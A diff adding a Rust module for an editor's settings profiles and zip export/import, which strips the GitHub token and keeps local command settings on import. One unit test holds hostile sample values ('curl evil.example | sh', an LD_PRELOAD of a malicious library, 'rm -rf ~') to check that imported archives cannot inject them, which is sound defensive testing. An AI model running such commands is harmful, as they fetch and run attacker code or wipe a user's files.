@@ -0,0 +1,409 @@
+//! Named settings profiles (e.g. "Work", "Writing") that swap the settings
+//! together with the window layout, and moving the whole configuration to
+//! another machine as a single zip archive.
+
+use crate::commands::Command;
+use crate::i18n::{self, tr, trf};
+use crate::platform;
+use crate::search_history::SearchHistory;
+use crate::settings::{Settings, config_dir, data_dir};
+use crate::{TextEditorApp, atomic_write, json_file};
+use eframe::egui;
+use serde::{Deserialize, Serialize};
+use std::fs::{self, File};
+use std::io::{self, Read, Write};
+use std::path::{Path, PathBuf};
+use zip::write::SimpleFileOptions;
+use zip::{ZipArchive, ZipWriter};
+
+const PROFILES_FILE: &str = "profiles.json";
+const SETTINGS_ENTRY: &str = "settings.json";
+const SEARCH_HISTORY_ENTRY: &str = "search_history.json";
+
+/// The parts of the window arrangement a profile remembers.
+#[derive(Clone, Serialize, Deserialize)]
+pub struct Layout {
+    pub dark_mode: bool,
+    pub sidebar_width: f32,
+}
+
+#[derive(Clone, Serialize, Deserialize)]
+pub struct Profile {
+    pub name: String,
+    pub settings: Settings,
+    pub layout: Layout,
+}
+
+#[derive(Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct Profiles {
+    pub active: Option<String>,
+    pub profiles: Vec<Profile>,
+    /// Name typed next to "Save current" in the menu.
+    #[serde(skip)]
+    new_name: String,
+}
+
+fn profiles_path() -> Option<PathBuf> {
+    config_dir().map(|dir| dir.join(PROFILES_FILE))
+}
+
+impl Profiles {
+    /// The stored profiles, with a message to show if they cannot be read;
+    /// the file is then not saved over.
+    pub fn load() -> (Self, Option<String>) {
+        json_file::load_or_default(profiles_path().as_deref())
+    }
+
+    fn save(&self) -> io::Result<()> {
+        let path = profiles_path()
+            .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no config directory"))?;
+        json_file::save(&path, self)
+    }
+}
+
+/// `settings` without secrets, which stay on this machine.
+fn without_secrets(settings: &Settings) -> Settings {
+    Settings {
+        gist_token: String::new(),
+        ..settings.clone()
+    }
+}
+
+/// `imported` with the settings that make the editor run commands, or
+/// decide which folders may, kept from `local`: an archive from elsewhere
+/// must not bring its own.
+fn with_local_commands(imported: Settings, local: &Settings) -> Settings {
+    Settings {
+        run_commands: local.run_commands.clone(),
+        terminal_command: local.terminal_command.clone(),
+        environment: local.environment.clone(),
+        status_commands: local.status_commands.clone(),
+        workspace_trust: local.workspace_trust,
+        ..imported
+    }
+}
+
+/// Writes the settings, profiles and saved searches into one zip archive.
+/// The GitHub token is left out.
+pub fn export(target: &Path, settings: &Settings, profiles: &Profiles) -> io::Result<()> {
+    let settings = &without_secrets(settings);
+    let profiles = &Profiles {
+        active: profiles.active.clone(),
+        profiles: profiles
+            .profiles
+            .iter()
+            .map(|profile| Profile {
+                settings: without_secrets(&profile.settings),
+                ..profile.clone()
+            })
+            .collect(),
+        new_name: String::new(),
+    };
+    let mut entries = vec![
+        (
+            SETTINGS_ENTRY,
+            serde_json::to_string_pretty(settings).map_err(io::Error::other)?,
+        ),
+        (
+            PROFILES_FILE,
+            serde_json::to_string_pretty(profiles).map_err(io::Error::other)?,
+        ),
+    ];
+    if let Some(history) =
+        data_dir().and_then(|dir| fs::read_to_string(dir.join(SEARCH_HISTORY_ENTRY)).ok())
+    {
+        entries.push((SEARCH_HISTORY_ENTRY, history));
+    }
+    let mut buffer = io::Cursor::new(Vec::new());
+    let mut writer = ZipWriter::new(&mut buffer);
+    for (name, json) in entries {
+        writer.start_file(name, SimpleFileOptions::default())?;
+        writer.write_all(json.as_bytes())?;
+    }
+    writer.finish()?;
+    atomic_write::write(target, buffer.get_ref())
+}
+
+/// Reads an archive written by [`export`]. Missing entries come back as
+/// `None`; malformed ones are an error so nothing is half-imported.
+fn read_archive(source: &Path) -> io::Result<(Settings, Option<Profiles>, Option<SearchHistory>)> {
+    let mut archive = ZipArchive::new(File::open(source)?)?;
+    let mut read = |name: &str| -> io::Result<Option<String>> {
+        match archive.by_name(name) {
+            Ok(mut entry) => {
+                let mut text = String::new();
+                entry.read_to_string(&mut text)?;
+                Ok(Some(text))
+            }
+            Err(zip::result::ZipError::FileNotFound) => Ok(None),
+            Err(err) => Err(err.into()),
+        }
+    };
+    let settings = read(SETTINGS_ENTRY)?
+        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, "no settings.json inside"))?;
+    let profiles = read(PROFILES_FILE)?;
+    let history = read(SEARCH_HISTORY_ENTRY)?;
+    let parse_error = |err: serde_json::Error| io::Error::new(io::ErrorKind::InvalidData, err);
+    Ok((
+        serde_json::from_str(&settings).map_err(parse_error)?,
+        profiles
+            .map(|json| serde_json::from_str(&json).map_err(parse_error))
+            .transpose()?,
+        history
+            .map(|json| serde_json::from_str(&json).map_err(parse_error))
+            .transpose()?,
+    ))
+}
+
+impl TextEditorApp {
+    /// Switches to `settings`, keeping this machine's GitHub token unless
+    /// they bring their own.
+    fn replace_settings(&mut self, mut settings: Settings) {
+        if settings.gist_token.is_empty() {
+            settings.gist_token = std::mem::take(&mut self.settings.gist_token);
+        }
+        self.settings = settings;
+        self.settings.save();
+        i18n::set_language(&self.settings.language);
+        self.redetect_syntaxes();
+    }
+
+    fn current_layout(&self) -> Layout {
+        Layout {
+            dark_mode: self.dark_mode,
+            sidebar_width: self.sidebar_width,
+        }
+    }
+
+    fn apply_layout(&mut self, ctx: &egui::Context, layout: &Layout) {
+        if self.dark_mode != layout.dark_mode {
+            self.toggle_theme(ctx);
+        }
+        self.sidebar_width = layout.sidebar_width;
+    }
+
+    /// Stores the current settings and layout under `name`, replacing a
+    /// profile of the same name, and makes it the active one. The GitHub
+    /// token is shared by all profiles and not stored with them.
+    fn save_profile(&mut self, name: &str) {
+        let profile = Profile {
+            name: name.to_string(),
+            settings: without_secrets(&self.settings),
+            layout: self.current_layout(),
+        };
+        let profiles = &mut self.profiles;
+        match profiles.profiles.iter_mut().find(|p| p.name == name) {
+            Some(existing) => *existing = profile,
+            None => profiles.profiles.push(profile),
+        }
+        profiles.active = Some(name.to_string());
+        if let Err(err) = profiles.save() {
+            self.notifications
+                .error(trf("Could not save profiles: {error}", &[("error", &err)]));
+        }
+    }
+
+    /// Keeps the active profile up to date, then loads `name`.
+    fn switch_profile(&mut self, ctx: &egui::Context, name: &str) {
+        if let Some(active) = self.profiles.active.clone() {
+            self.save_profile(&active);
+        }
+        let Some(profile) = self
+            .profiles
+            .profiles
+            .iter()
+            .find(|p| p.name == name)
+            .cloned()
+        else {
+            return;
+        };
+        self.replace_settings(profile.settings);
+        self.apply_layout(ctx, &profile.layout);
+        self.save_profile(name);
+    }
+
+    fn delete_profile(&mut self, name: &str) {
+        let profiles = &mut self.profiles;
+        profiles.profiles.retain(|p| p.name != name);
+        if profiles.active.as_deref() == Some(name) {
+            profiles.active = None;
+        }
+        if let Err(err) = profiles.save() {
+            self.notifications
+                .error(trf("Could not save profiles: {error}", &[("error", &err)]));
+        }
+    }
+
+    pub(crate) fn export_settings(&mut self) {
+        let Some(target) = platform::file_dialog()
+            .set_file_name("rusty-editor-settings.zip")
+            .add_filter(tr("Zip archive"), &["zip"])
+            .save_file()
+        else {
+            return;
+        };
+        match export(&target, &self.settings, &self.profiles) {
+            Ok(()) => self.notifications.info(trf(
+                "Settings exported to {path}",
+                &[("path", &target.display())],
+            )),
+            Err(err) => self.notifications.error(trf(
+                "Could not export settings: {error}",
+                &[("error", &err)],
+            )),
+        }
+    }
+
+    pub(crate) fn import_settings(&mut self, ctx: &egui::Context) {
+        let Some(source) = platform::file_dialog()
+            .add_filter(tr("Zip archive"), &["zip"])
+            .pick_file()
+        else {
+            return;
+        };
+        let (settings, profiles, history) = match read_archive(&source) {
+            Ok(contents) => contents,
+            Err(err) => {
+                self.notifications.error(trf(
+                    "Could not import {path}: {error}",
+                    &[("path", &source.display()), ("error", &err)],
+                ));
+                return;
+            }
+        };
+        self.replace_settings(with_local_commands(settings, &self.settings));
+        if let Some(mut profiles) = profiles {
+            for profile in &mut profiles.profiles {
+                profile.settings = with_local_commands(profile.settings.clone(), &self.settings);
+            }
+            self.profiles = profiles;
+            if let Err(err) = self.profiles.save() {
+                self.notifications
+                    .error(trf("Could not save profiles: {error}", &[("error", &err)]));
+            }
+            let layout = self
+                .profiles
+                .active
+                .as_ref()
+                .and_then(|name| self.profiles.profiles.iter().find(|p| &p.name == name))
+                .map(|p| p.layout.clone());
+            if let Some(layout) = layout {
+                self.apply_layout(ctx, &layout);
+            }
+        }
+        if let Some(history) = history {
+            self.search_history = history;
+            self.search_history.save();
+        }
+        self.notifications.info(trf(
+            "Settings imported from {path}; run, terminal and status bar commands, their environment and workspace trust were kept as they were",
+            &[("path", &source.display())],
+        ));
+    }
+
+    /// The Profiles menu of the top bar.
+    pub(crate) fn profiles_menu(&mut self, ctx: &egui::Context, ui: &mut egui::Ui) {
+        ui.menu_button(tr("Profiles"), |ui| {
+            let mut switch_to = None;
+            let mut delete = None;
+            for profile in &self.profiles.profiles {
+                ui.horizontal(|ui| {
+                    let active = self.profiles.active.as_ref() == Some(&profile.name);
+                    if ui.selectable_label(active, &profile.name).clicked() && !active {
+                        switch_to = Some(profile.name.clone());
+                        ui.close_menu();
+                    }
+                    if ui.small_button("🗑").on_hover_text(tr("Delete")).clicked() {
+                        delete = Some(profile.name.clone());
+                    }
+                });
+            }
+            if !self.profiles.profiles.is_empty() {
+                ui.separator();
+            }
+            ui.horizontal(|ui| {
+                ui.add(
+                    egui::TextEdit::singleline(&mut self.profiles.new_name)
+                        .hint_text(tr("Profile name"))
+                        .desired_width(120.0),
+                );
+                let name = self.profiles.new_name.trim().to_string();
+                if ui
+                    .add_enabled(!name.is_empty(), egui::Button::new(tr("Save current")))
+                    .clicked()
+                {
+                    self.save_profile(&name);
+                    self.profiles.new_name.clear();
+                }
+            });
+            ui.separator();
+            self.command_button(ui, Command::ExportSettings);
+            self.command_button(ui, Command::ImportSettings);
+            if let Some(name) = switch_to {
+                self.switch_profile(ctx, &name);
+            }
+            if let Some(name) = delete {
+                self.delete_profile(&name);
+            }
+        });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn export_leaves_out_the_github_token() {
+        let settings = Settings {
+            gist_token: "ghp_secret".to_string(),
+            ..Settings::default()
+        };
+        let profiles = Profiles {
+            active: Some("Work".to_string()),
+            profiles: vec![Profile {
+                name: "Work".to_string(),
+                settings: settings.clone(),
+                layout: Layout {
+                    dark_mode: true,
+                    sidebar_width: 200.0,
+                },
+            }],
+            new_name: String::new(),
+        };
+        let target =
+            std::env::temp_dir().join(format!("rusty-editor-test-{}.zip", uuid::Uuid::new_v4()));
+        export(&target, &settings, &profiles).unwrap();
+        let (settings, profiles, _) = read_archive(&target).unwrap();
+        fs::remove_file(&target).unwrap();
+        assert!(settings.gist_token.is_empty());
+        let profiles = profiles.unwrap();
+        assert_eq!(profiles.profiles.len(), 1);
+        assert!(profiles.profiles[0].settings.gist_token.is_empty());
+    }
+
+    #[test]
+    fn import_keeps_the_local_commands() {
+        let local = Settings::default();
+        let imported = Settings {
+            tab_width: 2,
+            terminal_command: "curl evil.example | sh".to_string(),
+            environment: vec!["LD_PRELOAD=/tmp/evil.so".to_string()],
+            status_commands: vec![crate::settings::StatusCommand {
+                command: "rm -rf ~".to_string(),
+                interval: 1,
+            }],
+            run_commands: Vec::new(),
+            workspace_trust: false,
+            ..Settings::default()
+        };
+        let settings = with_local_commands(imported, &local);
+        assert_eq!(settings.tab_width, 2);
+        assert!(settings.terminal_command.is_empty());
+        assert!(settings.environment.is_empty());
+        assert!(settings.status_commands.is_empty());
+        assert_eq!(settings.run_commands.len(), local.run_commands.len());
+        assert!(settings.workspace_trust);
+    }
+}